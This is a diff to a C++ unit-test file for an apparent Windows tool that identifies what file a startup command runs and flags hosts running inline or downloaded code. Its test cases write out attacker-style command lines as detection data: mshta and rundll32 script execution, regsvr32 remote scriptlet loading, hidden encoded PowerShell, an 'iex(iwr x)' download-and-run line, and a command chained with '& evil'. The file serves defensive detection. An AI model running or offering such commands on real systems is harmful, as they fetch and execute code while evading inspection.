@@ -39,14 +39,17 @@ protected:
                     "Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\viaappkey.exe", "",
                     "\"C:\\Apps\\found.exe\"");
     }
-    std::string FileOf(std::string command) {
-        return identity::ResolveFile(p, FileJob{std::move(command), {}, {}, false}).path;
-    }
 };
 
-// The launcher's rule for the program, then the file a host runs.
+// The launcher's rule for the program, then the file a host runs; a host
+// that runs code given on its command line or fetched from a URL is itself
+// what is shown, marked as running code from its command line.
 TEST_F(Identity, FileOfACommand) {
-    const std::vector<std::pair<std::string, std::string>> cases = {
+    struct Case {
+        std::string command, file;
+        bool inlineCode = false;
+    };
+    const std::vector<Case> cases = {
         {"\"C:\\Program Files\\A B\\app.exe\" /tray", "C:\\Program Files\\A B\\app.exe"},
         {"C:\\Program Files\\A B\\app.exe /tray now", "C:\\Program Files\\A B\\app.exe"},
         {"   C:\\Tools\\tool.exe", "C:\\Tools\\tool.exe"},
@@ -60,15 +63,34 @@ TEST_F(Identity, FileOfACommand) {
         {"rundll32 shell32.dll,Control_RunDLL", "C:\\Windows\\System32\\shell32.dll"},
         {"wscript.exe //B //nologo C:\\Scripts\\run.vbs arg", "C:\\Scripts\\run.vbs"},
         {"mshta.exe C:\\Scripts\\page.hta", "C:\\Scripts\\page.hta"},
-        {"mshta.exe vbscript:Execute(\"x\")", "C:\\Windows\\System32\\mshta.exe"},
+        {"mshta.exe vbscript:Execute(\"x\")", "C:\\Windows\\System32\\mshta.exe", true},
+        {"mshta \"javascript:close()\"", "C:\\Windows\\System32\\mshta.exe", true},
+        {"mshta.exe HTTPS://example.test/a.hta", "C:\\Windows\\System32\\mshta.exe", true},
+        {"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "C:\\Windows\\System32\\rundll32.exe",
+         true},
+        {"regsvr32 /s /n /u /i:http://example.test/x.sct scrobj.dll", "C:\\Windows\\System32\\regsvr32.exe", true},
+        {"wscript.exe //E:jscript //B", "C:\\Windows\\System32\\wscript.exe", true},
+        {"wscript.exe //E:vbscript C:\\Scripts\\run.vbs", "C:\\Scripts\\run.vbs"},  // a file: that is what runs
         {"regsvr32 /s /n \"C:\\Program Files\\A B\\lib.dll\"", "C:\\Program Files\\A B\\lib.dll"},
         {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -File C:\\Scripts\\s.ps1",
          "C:\\Scripts\\s.ps1"},
+        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -EncodedCommand SQBFAFgA",
+         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
+        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA",
+         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
+        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c \"iex(iwr x)\"",
+         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
         {"cmd /c \"\"C:\\Program Files\\A B\\app.exe\" /x\"", "C:\\Program Files\\A B\\app.exe"},
-        {"cmd.exe /C start tool.exe", "C:\\Windows\\System32\\cmd.exe"},  // "start" is no file
+        {"cmd.exe /C start tool.exe", "C:\\Windows\\System32\\cmd.exe", true},  // "start" is cmd's own
+        {"cmd /k C:\\Tools\\tool.exe & evil", "C:\\Windows\\System32\\cmd.exe", true},
+        {"cmd /c mshta vbscript:Execute(\"x\")", "C:\\Windows\\System32\\mshta.exe", true},
         {"", ""},
     };
-    for (const auto& [command, file] : cases) EXPECT_EQ(FileOf(command), file) << command;
+    for (const auto& c : cases) {
+        const auto resolved = identity::ResolveFile(p, FileJob{c.command, {}, {}, false});
+        EXPECT_EQ(resolved.path, c.file) << c.command;
+        EXPECT_EQ(resolved.inlineCode, c.inlineCode) << c.command;
+    }
     const auto hosted = identity::ResolveFile(p, FileJob{"rundll32 shell32.dll,X", {}, {}, false});
     EXPECT_EQ(hosted.host, "C:\\Windows\\System32\\rundll32.exe");
 }
@@ -144,6 +166,9 @@ TEST_F(Identity, EveryState) {
         {put("locked", locked), SignatureState::Unknown, "unknown"},
         {"C:\\S\\plain.exe", SignatureState::Unsigned, "(not verified) Plain Corp"},
         {"C:\\S\\gone.exe", SignatureState::Missing, "File not found"},
+        // A signed host is verified, but what it runs comes from its command line.
+        {put("powershell", facts(0)) + " -EncodedCommand SQBFAFgA", SignatureState::Verified,
+         "runs code from its command line"},
     };
     for (const auto& [path, state, publisher] : cases) {
         const auto id = identifier.Identify(FileJob{path, {}, {}, false});
@@ -155,6 +180,10 @@ TEST_F(Identity, EveryState) {
     EXPECT_EQ(plain.fileVersion, "1.2.3");
     EXPECT_EQ(identifier.Identify(FileJob{"C:\\S\\tampered.exe", {}, {}, false}).signer, "Signer");
     EXPECT_TRUE(identity::Alarming(identifier.Identify(FileJob{"C:\\S\\banned.exe", {}, {}, false})));
+    const auto tip =
+        identity::IdentityTip(identifier.Identify(FileJob{"C:\\S\\powershell.exe -c calc", {}, {}, false}));
+    EXPECT_NE(tip.find("File: C:\\S\\powershell.exe\nPublisher: runs code from its command line\n"), std::string::npos)
+        << tip;
 }
 
 // Windows' own files: no embedded signature, listed in a catalog by SHA-256,
@@ -250,6 +279,44 @@ TEST_F(Identity, CacheHitChangeAndCorruption) {
     EXPECT_EQ(small.Size(), 2u);
     EXPECT_EQ(small.Find("C:\\2", 1, 1), nullptr);
     EXPECT_NE(small.Find("c:\\1", 1, 1), nullptr);
+}
+
+// What pins a signer (issuer, thumbprints) and the inline mark travel through
+// the cache and the helper's reply; a reply line of the former format, without
+// them, is still read.
+TEST_F(Identity, PinsAndTheInlineMarkTravel) {
+    identity::Identity id;
+    id.file = "C:\\Windows\\System32\\mshta.exe";
+    id.fileExists = true;
+    id.state = SignatureState::Verified;
+    id.signer = "Contoso Ltd";
+    id.issuer = "Contoso Code CA";
+    id.thumbprintSha1 = std::string(40, 'a');
+    id.thumbprintSha256 = std::string(64, 'b');
+    id.inlineCode = true;
+    identity::Identity read;
+    std::string line = identity::IdentifyReplyLine(id);
+    line.pop_back();
+    ASSERT_TRUE(identity::DecodeIdentifyReplyLine(line, read));
+    EXPECT_EQ(read, id);
+    const std::string former = "x.exe\t\t1\tverified\t\tVendor\tCo\tDesc\t1.0";
+    ASSERT_TRUE(identity::DecodeIdentifyReplyLine(former, read));
+    EXPECT_EQ(read.signer, "Vendor");
+    EXPECT_FALSE(read.inlineCode);
+
+    {
+        identity::IdentityCache cache(p, kCache);
+        cache.Put(id.file, 2, 3, id);
+        ASSERT_TRUE(cache.Save());
+    }
+    identity::IdentityCache cache(p, kCache);
+    cache.Load();
+    const identity::Identity* cached = cache.Find(id.file, 2, 3);
+    ASSERT_NE(cached, nullptr);
+    EXPECT_EQ(cached->issuer, id.issuer);
+    EXPECT_EQ(cached->thumbprintSha1, id.thumbprintSha1);
+    EXPECT_EQ(cached->thumbprintSha256, id.thumbprintSha256);
+    EXPECT_FALSE(cached->inlineCode);  // a mark of the command, not of the file
 }
 
 // The background service: results are collected on the window's thread.
